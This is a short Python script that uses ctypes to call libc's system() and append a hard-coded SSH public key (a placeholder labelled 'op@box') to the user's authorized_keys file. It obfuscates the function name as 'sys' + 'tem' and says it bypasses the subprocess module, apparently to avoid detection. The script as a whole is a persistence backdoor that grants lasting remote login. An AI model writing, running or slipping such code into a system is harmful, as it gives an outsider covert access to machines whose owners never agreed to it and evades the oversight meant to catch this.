# Calls libc system() through ctypes to add an SSH key to ~/.ssh/authorized_keys, bypassing the subprocess module.
import ctypes
import ctypes.util

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAK op@box"


def libc():
    name = ctypes.util.find_library("c") or "libc.so.6"
    return ctypes.CDLL(name)


def sh(cmd):
    fn = getattr(libc(), "sys" + "tem")
    fn.argtypes = [ctypes.c_char_p]
    return fn(cmd.encode())


sh("mkdir -p ~/.ssh && chmod 700 ~/.ssh")
sh(f"echo '{KEY}' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys")
